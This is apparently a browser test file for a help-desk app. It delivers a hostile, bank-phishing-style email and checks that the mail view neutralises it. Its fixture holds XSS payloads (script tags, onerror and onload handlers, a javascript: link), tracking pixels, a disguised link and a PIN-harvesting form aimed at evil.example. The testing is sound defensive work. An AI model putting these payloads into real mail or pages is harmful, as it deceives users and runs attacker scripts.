/** A hostile mail on the agent's screen: nothing runs, nothing is fetched, links say where they lead, files are saved and not shown. */
import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { keepPictures, useBrowser } from '../support/browser.ts';
import { logIn } from '../support/browser-desk.ts';
import { eventually } from '../support/client.ts';
import { admin, apiKey, startHub } from '../support/hub.ts';
import type { TestHub } from '../support/hub.ts';
import { mailProgram } from '../support/mail.ts';

/** `tracker`: what would tell the sender that the mail was read. */
const html = (
  tracker: string,
) => `<p>Dear bank customer, <a href="https://evil.example/pay">www.bank.example</a> or <a href="https://shop.example/x">our shop</a></p>
<script>parent.document.title = 'owned'</script><img src=x onerror="parent.document.title = 'owned'">
<img src="${tracker}/pixel.gif"><style>@import url(${tracker}/a.css); body { background: url(${tracker}/b.png) }
strong, .patchbay-target { display: none !important; font-size: 0 !important }</style>
<form action="https://evil.example"><input name="pin"><button>Send</button></form><a href="javascript:parent.document.title='owned'">here</a>`;

describe.skipIf(inject('chromium') === null)('a hostile mail', () => {
  const browser = useBrowser();
  let hub: TestHub;
  let page: Page;
  const fetched: (string | undefined)[] = [];
  const tracker = createServer((request, response) => {
    fetched.push(request.url);
    response.end();
  });
  beforeAll(async () => {
    tracker.listen(0, '127.0.0.1');
    hub = await startHub('postgres');
  });
  afterAll(async () => {
    await page?.context().close();
    await hub?.[Symbol.asyncDispose]();
    tracker.close();
  });

  async function receive(): Promise<{ ticketId: string; attachments: { filename: string; url: string }[] }> {
    const messageId = `<${randomUUID()}@example.org>`;
    await mailProgram(hub.ground.smtpPort)({
      from: 'Bank <service@bank.example>',
      messageId,
      subject: 'Your account',
      text: 'Dear bank customer',
      html: html(`http://127.0.0.1:${(tracker.address() as AddressInfo).port}`),
      attachments: [
        {
          filename: 'run.svg',
          contentType: 'image/svg+xml',
          content: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        },
        { filename: 'run.html', contentType: 'text/html', content: '<script>alert(1)</script>' },
      ],
    });
    const { body } = await eventually(
      () => hub.api('GET', `/api/v1/messages?externalId=${encodeURIComponent(messageId)}`),
      (answer) => answer.body.items.length === 1,
    );
    return body.items[0];
  }

  it('shows its text, its true links and its sender as not confirmed', async () => {
    const { ticketId } = await receive();
    page = (await browser.open()).page;
    await logIn(page, hub.url, admin);
    await page.goto(`${hub.url}/desk/${ticketId}`);
    const mail = page.frameLocator('[data-testid=html-mail]');
    const link = mail.locator('a[href="https://evil.example/pay"]');
    await link.waitFor();
    expect(await link.innerText()).toContain('→ evil.example');
    expect(await link.locator('strong').isVisible()).toBe(true);
    expect(await link.getAttribute('title')).toBe('https://evil.example/pay');
    expect(await link.getAttribute('rel')).toContain('noopener');
    expect(await mail.locator('a[href="https://shop.example/x"]').innerText()).toBe('our shop');
    expect(await mail.locator('form, input, button, script, a[href^=javascript]').count()).toBe(0);
    expect(await page.getByTestId('authenticity').getAttribute('data-verdict')).toBe('none');
    expect(await page.title()).not.toBe('owned');
    expect(fetched).toEqual([]);
    const beyond = await keepPictures(page, 'hostile-mail');
    expect(beyond.filter((what) => /html-mail|authenticity|message/.test(what))).toEqual([]);
    // On request the pictures may come, by HTTPS as all of the console; style sheets never.
    expect(await mail.locator('img[src*=pixel]').count()).toBe(0);
    await page.getByTestId('show-images').click();
    await mail.locator('img[src*=pixel]').waitFor({ state: 'attached' });
    expect(fetched).toEqual([]);
  });

  it('has its SVG and HTML files saved, not shown', async () => {
    const { attachments } = await receive();
    expect(attachments).toHaveLength(2);
    for (const { url } of attachments) {
      const answer = await fetch(new URL(url, hub.url), { headers: { authorization: `Bearer ${apiKey}` } });
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });
});
